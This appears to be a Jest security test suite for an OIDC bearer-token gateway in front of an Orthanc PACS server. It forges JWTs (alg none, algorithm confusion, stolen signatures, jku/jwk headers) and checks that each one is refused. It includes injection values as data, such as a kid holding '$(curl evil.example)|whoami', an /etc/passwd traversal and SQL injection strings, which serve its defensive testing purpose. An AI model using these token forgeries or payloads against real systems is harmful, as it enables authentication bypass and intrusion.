import { constants, createHmac, KeyObject, sign as cryptoSign } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { CompactEncrypt, exportJWK, exportSPKI, generateKeyPair, SignJWT, UnsecuredJWT, type JWTPayload } from 'jose';
import { startTestGateway, type TestGateway } from '../support/gateway.js';
import { orthancBasicAuth, startOrthanc, type TestOrthanc } from '../support/orthanc.js';
import { rawRequest } from '../support/raw-http.js';
import { requestHead, socketExchange } from '../support/raw-socket.js';
import { expectGatewayAlive, expectOrthancSawNothing, NO_RATE_LIMITS, startCountingServer, type CountingServer } from '../support/security.js';
import { startTestIssuer, type SigningKey, type TestIssuer } from '../support/test-issuer.js';

/**
 * Attack suite, category "Bearer JWT" (RFC 8725 JWT BCP, RFC 9068 JWT access tokens, RFC 6750):
 * algorithm confusion, `none`, wrong keys, token type confusion, every time and identity claim,
 * `kid` injection, key-fetching headers (`jku`, `x5u`, `jwk`, `x5c`), `crit`, JWE, malformed and
 * oversized tokens, how the token is presented, and the key set under flood or unavailable.
 *
 * Tokens come from a local Keycloak-shaped issuer (discovery + JWKS over HTTP) that can also forge.
 * Every refused request is checked against Orthanc's own request log, then /healthz.
 */
let orthanc: TestOrthanc;
let issuer: TestIssuer;
let gateway: TestGateway;
let stranger: SigningKey;
let strangerEc: SigningKey;
let strangerEd: SigningKey;
/** A symmetric key the issuer's JWKS (wrongly) publishes: HS* must stay refused even then. */
let octKey: { kid: string; secret: Buffer };
/** Target of jku / x5u: serves the stranger's key set, and counts requests (there must be none). */
let keyHost: CountingServer;

const QIDO = '/pacs/dicom-web/studies';
const now = () => Math.floor(Date.now() / 1000);
const b64 = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
const signingKey = () => issuer.keys[0]!;
const claims = (overrides: JWTPayload = {}) => issuer.accessClaims('viewer', ['pacs-viewer'], overrides);
const sign = (payload: JWTPayload, options?: Parameters<TestIssuer['sign']>[1]) => issuer.sign(payload, options);

function without(payload: JWTPayload, ...names: string[]): JWTPayload {
  const copy = { ...payload };
  for (const name of names) delete copy[name];
  return copy;
}

/** header.payload.signature from parts, no validation at all. */
function craft(header: unknown, payload: unknown, signature = ''): string {
  return `${b64(header)}.${b64(payload)}.${signature}`;
}

function hmac(alg: 'HS256' | 'HS384' | 'HS512', secret: string | Buffer, header: Record<string, unknown>, payload: JWTPayload): string {
  const input = `${b64({ ...header, alg })}.${b64(payload)}`;
  const digest = createHmac(`sha${alg.slice(2)}`, secret).update(input).digest('base64url');
  return `${input}.${digest}`;
}

/** Signs with an RSA private key exactly as told: any header (crit…), RS* or PS* whatever the key's JWK says. */
function rsaSign(alg: 'RS256' | 'RS512' | 'PS256', header: Record<string, unknown>, payload: unknown, key = signingKey().privateKey): string {
  const input = Buffer.from(`${b64({ ...header, alg })}.${b64(payload)}`);
  const keyObject = KeyObject.from(key);
  const hash = `sha${alg.slice(2)}`;
  const signature = alg.startsWith('PS')
    ? cryptoSign(hash, input, { key: keyObject, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 })
    : cryptoSign(hash, input, keyObject);
  return `${input.toString()}.${signature.toString('base64url')}`;
}
const realKid = () => ({ kid: signingKey().kid, typ: 'JWT' });

async function strangerSigned(header: Record<string, unknown>, key: SigningKey = stranger, payload = claims()): Promise<string> {
  return new SignJWT(payload).setProtectedHeader({ alg: key.alg, typ: 'JWT', ...header }).sign(key.privateKey);
}

beforeAll(async () => {
  [orthanc, issuer] = await Promise.all([startOrthanc(), startTestIssuer()]);
  [stranger, strangerEc, strangerEd] = await Promise.all([issuer.newKey(), issuer.newKey('ES256'), issuer.newKey('EdDSA')]);
  keyHost = await startCountingServer({ keys: [stranger.publicJwk] });
  octKey = { kid: 'oct-key', secret: Buffer.from('a-shared-secret-nobody-should-accept-0123456789') };
  // Published before the gateway's first key download (jose caches the set; see the flood test).
  issuer.publish({
    kid: octKey.kid,
    alg: 'HS256',
    publicJwk: { kty: 'oct', k: octKey.secret.toString('base64url'), kid: octKey.kid, alg: 'HS256' },
  } as unknown as SigningKey);
  gateway = await startTestGateway({
    OIDC_ISSUER: issuer.issuer,
    ORTHANC_URL: orthanc.url,
    ORTHANC_USERNAME: orthanc.username,
    ORTHANC_PASSWORD: orthanc.password,
    ...NO_RATE_LIMITS,
  });
}, 60_000);

afterAll(async () => {
  await gateway?.close();
  await Promise.all([orthanc?.stop(), issuer?.stop(), keyHost?.stop()]);
});

beforeEach(async () => {
  await orthanc.clearSeenRequests();
});

interface Attempt {
  headers?: Record<string, string | string[]>;
  target?: string;
  method?: string;
  body?: string;
}
const bearer = (token: string): Attempt => ({ headers: { authorization: `Bearer ${token}` } });

async function attempt({ headers = {}, target = QIDO, method = 'GET', body }: Attempt) {
  return rawRequest(gateway.url, target, { method, headers, body });
}

/** [name, the request, status, error code] — the controls (200) show where each boundary lies. */
type Case = [string, () => Promise<Attempt>, number, string | null];

const tokenCases: Case[] = [
  ['control: a valid access token', async () => bearer(await sign(claims())), 200, null],
  ['control: lower-case "bearer" scheme (RFC 6750 is case-insensitive)', async () => ({ headers: { authorization: `bearer ${await sign(claims())}` } }), 200, null],

  // algorithm confusion and "none" (RFC 8725 §2.1, §3.1)
  ['alg none', async () => bearer(new UnsecuredJWT(claims()).encode()), 401, 'invalid_token'],
  ['alg "None"', async () => bearer(craft({ alg: 'None', typ: 'JWT' }, claims())), 401, 'invalid_token'],
  ['alg "NONE"', async () => bearer(craft({ alg: 'NONE', typ: 'JWT' }, claims())), 401, 'invalid_token'],
  ['alg "nOnE" with the real kid', async () => bearer(craft({ alg: 'nOnE', kid: signingKey().kid }, claims())), 401, 'invalid_token'],
  [
    'alg none keeping a valid signature',
    async () => {
      const [, payload, signature] = (await sign(claims())).split('.');
      return bearer(`${b64({ alg: 'none', kid: signingKey().kid })}.${payload}.${signature}`);
    },
    401,
    'invalid_token',
  ],
  ['HS256 keyed with the RSA public key (PEM)', async () => bearer(hmac('HS256', await exportSPKI(signingKey().publicKey), { kid: signingKey().kid }, claims())), 401, 'invalid_token'],
  ['HS384 keyed with the RSA public key (PEM)', async () => bearer(hmac('HS384', await exportSPKI(signingKey().publicKey), { kid: signingKey().kid }, claims())), 401, 'invalid_token'],
  ['HS512 keyed with the RSA public key (PEM)', async () => bearer(hmac('HS512', await exportSPKI(signingKey().publicKey), { kid: signingKey().kid }, claims())), 401, 'invalid_token'],
  ['HS256 keyed with the JWK JSON', async () => bearer(hmac('HS256', JSON.stringify(signingKey().publicJwk), { kid: signingKey().kid }, claims())), 401, 'invalid_token'],
  ['HS256 keyed with the JWK modulus', async () => bearer(hmac('HS256', String(signingKey().publicJwk.n), { kid: signingKey().kid }, claims())), 401, 'invalid_token'],
  ['HS256 with a symmetric key the JWKS itself publishes', async () => bearer(hmac('HS256', octKey.secret, { kid: octKey.kid }, claims())), 401, 'invalid_token'],
  ['control: hand-made RS256 with the real key', async () => bearer(rsaSign('RS256', realKid(), claims())), 200, null],
  ['the real RSA key under PS256 (its JWK says RS256)', async () => bearer(rsaSign('PS256', realKid(), claims())), 401, 'invalid_token'],
  ['the real RSA key under RS512 (its JWK says RS256)', async () => bearer(rsaSign('RS512', realKid(), claims())), 401, 'invalid_token'],
  [
    'RS256 signature relabelled PS256',
    async () => {
      const [, payload, signature] = (await sign(claims())).split('.');
      return bearer(`${b64({ alg: 'PS256', kid: signingKey().kid, typ: 'JWT' })}.${payload}.${signature}`);
    },
    401,
    'invalid_token',
  ],
  ['no alg header', async () => bearer(craft({ kid: signingKey().kid, typ: 'JWT' }, claims(), 'c2ln')), 401, 'invalid_token'],
  ['alg as an array', async () => bearer(craft({ alg: ['RS256'], kid: signingKey().kid }, claims(), 'c2ln')), 401, 'invalid_token'],

  // wrong key, broken signature
  ['a stranger\'s RSA key, its own kid', async () => bearer(await strangerSigned({ kid: stranger.kid })), 401, 'invalid_token'],
  ['a stranger\'s RSA key claiming the real kid', async () => bearer(await strangerSigned({ kid: signingKey().kid })), 401, 'invalid_token'],
  ['a stranger\'s EC key claiming the real kid', async () => bearer(await strangerSigned({ kid: signingKey().kid }, strangerEc)), 401, 'invalid_token'],
  ['a stranger\'s Ed25519 key claiming the real kid', async () => bearer(await strangerSigned({ kid: signingKey().kid }, strangerEd)), 401, 'invalid_token'],
  ['a stranger\'s RSA key, no kid', async () => bearer(await strangerSigned({})), 401, 'invalid_token'],
  [
    'payload swapped for one with the admin role',
    async () => {
      const [header, , signature] = (await sign(claims())).split('.');
      return bearer(`${header}.${b64(claims({ realm_access: { roles: ['pacs-admin'] } }))}.${signature}`);
    },
    401,
    'invalid_token',
  ],
  [
    'signature of another valid token',
    async () => {
      const [header, payload] = (await sign(claims())).split('.');
      const other = (await issuer.token('admin', ['pacs-admin'])).split('.')[2];
      return bearer(`${header}.${payload}.${other}`);
    },
    401,
    'invalid_token',
  ],
  ['truncated signature', async () => bearer((await sign(claims())).slice(0, -10)), 401, 'invalid_token'],
  ['empty signature', async () => bearer((await sign(claims())).replace(/[^.]+$/, '')), 401, 'invalid_token'],

  // type confusion (RFC 8725 §3.11): other Keycloak JWTs share issuer, key and even audience
  ['a Keycloak ID token (typ ID, aud = the gateway client)', async () => bearer(await sign(claims({ typ: 'ID', aud: 'orthanc-gateway', azp: 'orthanc-gateway' }))), 401, 'invalid_token'],
  ['a Keycloak refresh token (typ Refresh)', async () => bearer(await sign(claims({ typ: 'Refresh' }))), 401, 'invalid_token'],
  ['a Keycloak offline token (typ Offline)', async () => bearer(await sign(claims({ typ: 'Offline' }))), 401, 'invalid_token'],
  [
    'a back-channel logout token (aud = the gateway client, with exp)',
    async () =>
      bearer(
        await sign({
          iss: issuer.issuer,
          aud: 'orthanc-gateway',
          sub: 'sub-viewer',
          sid: 'sid-viewer',
          iat: now(),
          exp: now() + 300,
          jti: 'logout-1',
          events: { 'http://schemas.openid.net/event/backchannel-logout': {} },
        }),
      ),
    401,
    'invalid_token',
  ],
  ['typ "bearer" (wrong case)', async () => bearer(await sign(claims({ typ: 'bearer' }))), 401, 'invalid_token'],
  ['no typ claim', async () => bearer(await sign(without(claims(), 'typ'))), 401, 'invalid_token'],
  ['an access token of another client (aud ohif-viewer only)', async () => bearer(await sign(claims({ aud: 'ohif-viewer' }))), 401, 'invalid_token'],

  // iss / aud / exp / nbf / iat / sub
  ['another issuer', async () => bearer(await sign(claims({ iss: 'http://evil.example/realms/orthanc' }))), 401, 'invalid_token'],
  ['the issuer with a trailing slash', async () => bearer(await sign(claims({ iss: `${issuer.issuer}/` }))), 401, 'invalid_token'],
  ['the issuer in another case', async () => bearer(await sign(claims({ iss: issuer.issuer.replace('realms', 'REALMS') }))), 401, 'invalid_token'],
  ['the issuer as an array', async () => bearer(await sign(claims({ iss: [issuer.issuer] as unknown as string }))), 401, 'invalid_token'],
  ['no iss', async () => bearer(await sign(without(claims(), 'iss'))), 401, 'invalid_token'],
  ['aud ["account"] (Keycloak default, no audience mapper)', async () => bearer(await sign(claims({ aud: ['account'] }))), 401, 'invalid_token'],
  ['aud in another case', async () => bearer(await sign(claims({ aud: 'ORTHANC-GATEWAY' }))), 401, 'invalid_token'],
  ['aud with a suffix', async () => bearer(await sign(claims({ aud: 'orthanc-gateway-evil' }))), 401, 'invalid_token'],
  ['no aud', async () => bearer(await sign(without(claims(), 'aud'))), 401, 'invalid_token'],
  ['control: aud as a single string', async () => bearer(await sign(claims({ aud: 'orthanc-gateway' }))), 200, null],
  ['expired two minutes ago', async () => bearer(await sign(claims({ iat: now() - 600, exp: now() - 120 }))), 401, 'invalid_token'],
  ['control: expired 5 s ago (30 s clock tolerance)', async () => bearer(await sign(claims({ iat: now() - 300, exp: now() - 5 }))), 200, null],
  ['no exp', async () => bearer(await sign(without(claims(), 'exp'))), 401, 'invalid_token'],
  ['exp as a string', async () => bearer(await sign(claims({ exp: String(now() + 300) as unknown as number }))), 401, 'invalid_token'],
  ['nbf ten minutes ahead', async () => bearer(await sign(claims({ nbf: now() + 600 }))), 401, 'invalid_token'],
  ['control: nbf 5 s ahead (clock tolerance)', async () => bearer(await sign(claims({ nbf: now() + 5 }))), 200, null],
  ['nbf as a string', async () => bearer(await sign(claims({ nbf: String(now()) as unknown as number }))), 401, 'invalid_token'],
  ['iat ten minutes ahead', async () => bearer(await sign(claims({ iat: now() + 600 }))), 401, 'invalid_token'],
  ['no iat', async () => bearer(await sign(without(claims(), 'iat'))), 401, 'invalid_token'],
  ['iat as a string', async () => bearer(await sign(claims({ iat: String(now()) as unknown as number }))), 401, 'invalid_token'],
  ['no sub', async () => bearer(await sign(without(claims(), 'sub'))), 401, 'invalid_token'],
  ['an empty sub', async () => bearer(await sign(claims({ sub: '' }))), 401, 'invalid_token'],
  ['sub as a number', async () => bearer(await sign(claims({ sub: 42 as unknown as string }))), 401, 'invalid_token'],

  // kid injection: the kid only ever selects among the issuer's published keys
  ['kid path traversal', async () => bearer(await strangerSigned({ kid: '../../../../../../etc/passwd' })), 401, 'invalid_token'],
  ['kid SQL injection', async () => bearer(await strangerSigned({ kid: "' OR '1'='1' --" })), 401, 'invalid_token'],
  ['kid shell injection', async () => bearer(await strangerSigned({ kid: '$(curl evil.example)|whoami' })), 401, 'invalid_token'],
  ['kid with NUL', async () => bearer(await strangerSigned({ kid: `${signingKey().kid}\u0000` })), 401, 'invalid_token'],
  ['kid = the real kid + traversal suffix, real key', async () => bearer(await sign(claims(), { header: { kid: `${signingKey().kid}/../x` } })), 401, 'invalid_token'],
  ['kid of 4000 characters', async () => bearer(await strangerSigned({ kid: 'k'.repeat(4000) })), 401, 'invalid_token'],
  ['kid as a number', async () => bearer(await strangerSigned({ kid: 1 })), 401, 'invalid_token'],
  ['kid as an object', async () => bearer(await strangerSigned({ kid: { $ne: null } })), 401, 'invalid_token'],
  ['kid as a URL', async () => bearer(await strangerSigned({ kid: `${keyHost.url}/jwks.json` })), 401, 'invalid_token'],

  // key-fetching and embedded-key headers (RFC 8725 §3.10): never followed, never trusted
  ['jku pointing at an attacker key set', async () => bearer(await strangerSigned({ kid: stranger.kid, jku: `${keyHost.url}/jwks.json` })), 401, 'invalid_token'],
  ['jku with the real kid', async () => bearer(await strangerSigned({ kid: signingKey().kid, jku: `${keyHost.url}/jwks.json` })), 401, 'invalid_token'],
  ['x5u pointing at an attacker certificate', async () => bearer(await strangerSigned({ kid: stranger.kid, x5u: `${keyHost.url}/cert.pem` })), 401, 'invalid_token'],
  ['jwk embedding the attacker key', async () => bearer(await strangerSigned({ jwk: stranger.publicJwk })), 401, 'invalid_token'],
  ['jwk embedding the attacker key with the real kid', async () => bearer(await strangerSigned({ kid: signingKey().kid, jwk: stranger.publicJwk })), 401, 'invalid_token'],
  ['x5c with a certificate chain', async () => bearer(await strangerSigned({ x5c: ['MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA'] })), 401, 'invalid_token'],

  // crit (RFC 7515 §4.1.11): unknown critical extensions must be refused, even with a valid signature
  ['crit naming an unknown extension (real key)', async () => bearer(rsaSign('RS256', { ...realKid(), crit: ['x-policy'], 'x-policy': 'skip-checks' }, claims())), 401, 'invalid_token'],
  ['crit naming a registered header (real key)', async () => bearer(rsaSign('RS256', { ...realKid(), crit: ['kid'] }, claims())), 401, 'invalid_token'],
  ['crit empty (real key)', async () => bearer(rsaSign('RS256', { ...realKid(), crit: [] }, claims())), 401, 'invalid_token'],
  ['crit not an array (real key)', async () => bearer(rsaSign('RS256', { ...realKid(), crit: 'exp' }, claims())), 401, 'invalid_token'],
  ['b64:false unencoded payload (real key)', async () => bearer(rsaSign('RS256', { ...realKid(), b64: false, crit: ['b64'] }, claims())), 401, 'invalid_token'],

  // JWE instead of JWS
  [
    'a JWE (5 parts) with valid claims inside',
    async () => {
      const { publicKey } = await generateKeyPair('RSA-OAEP-256');
      const jwe = await new CompactEncrypt(new TextEncoder().encode(JSON.stringify(claims())))
        .setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: signingKey().kid, typ: 'JWT' })
        .encrypt(publicKey);
      return bearer(jwe);
    },
    401,
    'invalid_token',
  ],
  ['a JWE wrapping a valid JWS', async () => bearer(`${b64({ alg: 'dir', enc: 'A128GCM', cty: 'JWT' })}..${b64('iv')}.${b64(await sign(claims()))}.${b64('tag')}`), 401, 'invalid_token'],

  // malformed and oversized
  ['not a JWT', async () => bearer('not-a-jwt'), 401, 'invalid_token'],
  ['three garbage parts', async () => bearer('not.a.jwt'), 401, 'invalid_token'],
  ['two parts', async () => bearer('abc.def'), 401, 'invalid_token'],
  ['four parts', async () => bearer(`${await sign(claims())}.extra`), 401, 'invalid_token'],
  ['only dots', async () => bearer('...'), 401, 'invalid_token'],
  ['header not JSON', async () => bearer(`${b64('{"alg":')}.${b64(claims())}.c2ln`), 401, 'invalid_token'],
  ['payload not JSON', async () => bearer(`${b64({ alg: 'RS256', kid: signingKey().kid })}.${b64('not json')}.c2ln`), 401, 'invalid_token'],
  ['payload a JSON array', async () => bearer(craft({ alg: 'RS256', kid: signingKey().kid }, [claims()], 'c2ln')), 401, 'invalid_token'],
  ['standard base64 (+ / =) instead of base64url', async () => bearer(`${Buffer.from(JSON.stringify({ alg: 'RS256', kid: signingKey().kid, x: '>>>???' })).toString('base64')}.${b64(claims())}.c2ln`), 401, 'invalid_token'],
  ['8193 characters', async () => bearer(`${await sign(claims())}${'A'.repeat(8193)}`.slice(0, 8193)), 401, 'invalid_token'],
  ['15000 characters (under the header limit)', async () => bearer(await sign(claims({ padding: 'p'.repeat(11000) }))), 401, 'invalid_token'],
  ['"Bearer" and nothing else', async () => ({ headers: { authorization: 'Bearer' } }), 401, 'invalid_token'],
  ['"Bearer " and spaces', async () => ({ headers: { authorization: 'Bearer    ' } }), 401, 'invalid_token'],
  ['a token with spaces inside', async () => ({ headers: { authorization: 'Bearer a.b c.d' } }), 401, 'invalid_token'],
  ['two tokens in one header', async () => ({ headers: { authorization: `Bearer ${await sign(claims())}, Bearer ${await sign(claims())}` } }), 401, 'invalid_token'],

  // how the token is presented (RFC 6750 §2, RFC 9700 §4.3.2: never in the URL)
  ['access_token in the query string', async () => ({ target: `${QIDO}?access_token=${await sign(claims())}` }), 400, 'bad_request'],
  ['ACCESS_TOKEN in the query string', async () => ({ target: `${QIDO}?ACCESS_TOKEN=${await sign(claims())}` }), 400, 'bad_request'],
  ['access_token after another parameter', async () => ({ target: `${QIDO}?PatientID=x&access_token=${await sign(claims())}` }), 400, 'bad_request'],
  ['access_token in the query next to a valid header', async () => ({ target: `${QIDO}?access_token=${await sign(claims())}`, ...bearer(await sign(claims())) }), 400, 'bad_request'],
  ['access%5Ftoken in the query (an encoded parameter name: refused before anything else)', async () => ({ target: `${QIDO}?access%5Ftoken=${await sign(claims())}` }), 400, 'bad_request'],
  ['access_token in a form body', async () => ({ method: 'POST', target: QIDO, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `access_token=${await sign(claims())}` }), 401, 'unauthenticated'],
  ['the token in X-Access-Token / X-Auth-Token', async () => ({ headers: { 'x-access-token': await sign(claims()), 'x-auth-token': await sign(claims()) } }), 401, 'unauthenticated'],
  ['the token under another scheme', async () => ({ headers: { authorization: `Token ${await sign(claims())}` } }), 401, 'unauthenticated'],
  ['two Authorization headers, both valid', async () => ({ headers: { authorization: [`Bearer ${await sign(claims())}`, `Bearer ${await sign(claims())}`] } }), 400, 'bad_request'],
  ['two Authorization headers, valid then forged', async () => ({ headers: { authorization: [`Bearer ${await sign(claims())}`, `Bearer ${await strangerSigned({})}`] } }), 400, 'bad_request'],
  ['Bearer and Basic together', async () => ({ headers: { authorization: [`Bearer ${await sign(claims())}`, orthancBasicAuth(orthanc)] } }), 400, 'bad_request'],
];

describe('Bearer tokens', () => {
  it.each(tokenCases.map(([name, makeAttempt, status, code]) => [name, status, code, makeAttempt] as const))('%s → %i %s', async (_name, status, code, makeAttempt) => {
    const response = await attempt(await makeAttempt());
    expect(response.status).toBe(status);
    if (code === null) {
      expect(await orthanc.seenRequests()).toEqual(['GET /dicom-web/studies']);
      return;
    }
    expect(JSON.parse(response.body)).toMatchObject({ error: code, message: expect.any(String), requestId: expect.any(String) });
    if (code === 'invalid_token') {
      expect(response.headers['www-authenticate']).toMatch(/^Bearer realm="orthanc-oidc-gateway", error="invalid_(token|request)"/);
    }
    expect(response.headers['www-authenticate'] ?? '').not.toMatch(/basic/i);
    await expectOrthancSawNothing(orthanc);
    await expectGatewayAlive(gateway.url);
  });

  it('never fetched a jku / x5u URL or anything else on the attacker host', () => {
    expect(keyHost.requests()).toEqual([]);
  });

  it('a 20 KB token is refused by the HTTP parser (431) and the connection closed', async () => {
    const token = await sign(claims({ padding: 'p'.repeat(20_000) }));
    const exchange = await socketExchange(gateway.url, requestHead(`GET ${QIDO} HTTP/1.1`, ['Host: gateway.test', `Authorization: Bearer ${token}`]));
    expect(exchange.responses.map((response) => response.status)).toEqual([431]);
    expect(exchange.closedByServer).toBe(true);
    await expectOrthancSawNothing(orthanc);
    await expectGatewayAlive(gateway.url);
  });
});

describe('the issuer key set', () => {
  it('a flood of random kids downloads the key set at most once per cooldown (30 s), and valid tokens keep working', async () => {
    const before = issuer.jwksRequests();
    const statuses = await Promise.all(
      Array.from({ length: 40 }, async (_, i) => (await attempt(bearer(await strangerSigned({ kid: `random-${i}-${Math.random()}` })))).status),
    );
    expect(new Set(statuses)).toEqual(new Set([401]));
    expect(issuer.jwksRequests() - before).toBeLessThanOrEqual(1);
    expect((await attempt(bearer(await sign(claims())))).status).toBe(200);
    expect(keyHost.requests()).toEqual([]);
  });

  describe('key set unreachable', () => {
    let downIssuer: TestIssuer;
    let downGateway: TestGateway;

    beforeAll(async () => {
      downIssuer = await startTestIssuer();
      downIssuer.setAvailable(false);
      downGateway = await startTestGateway({
        OIDC_ISSUER: downIssuer.issuer,
        ORTHANC_URL: orthanc.url,
        ORTHANC_USERNAME: orthanc.username,
        ORTHANC_PASSWORD: orthanc.password,
        ...NO_RATE_LIMITS,
      });
    });

    afterAll(async () => {
      await downGateway?.close();
      await downIssuer?.stop();
    });

    it.each<[string, () => Promise<string>]>([
      ['a valid token', () => downIssuer.token('admin', ['pacs-admin'])],
      ['alg none', async () => new UnsecuredJWT(downIssuer.accessClaims('admin', ['pacs-admin'])).encode()],
      ['a forged token with an embedded jwk', async () => {
        const { privateKey, publicKey } = await generateKeyPair('RS256');
        return new SignJWT(downIssuer.accessClaims('admin', ['pacs-admin'])).setProtectedHeader({ alg: 'RS256', jwk: await exportJWK(publicKey) }).sign(privateKey);
      }],
    ])('%s → 503, never accepted, never forwarded', async (_name, makeToken) => {
      const token = await makeToken();
      for (const target of ['/pacs/dicom-web/studies', '/pacs-admin/system']) {
        const response = await rawRequest(downGateway.url, target, { headers: { authorization: `Bearer ${token}` } });
        expect([target, response.status]).toEqual([target, 503]);
      }
      await expectOrthancSawNothing(orthanc);
      await expectGatewayAlive(downGateway.url);
    });
  });
});
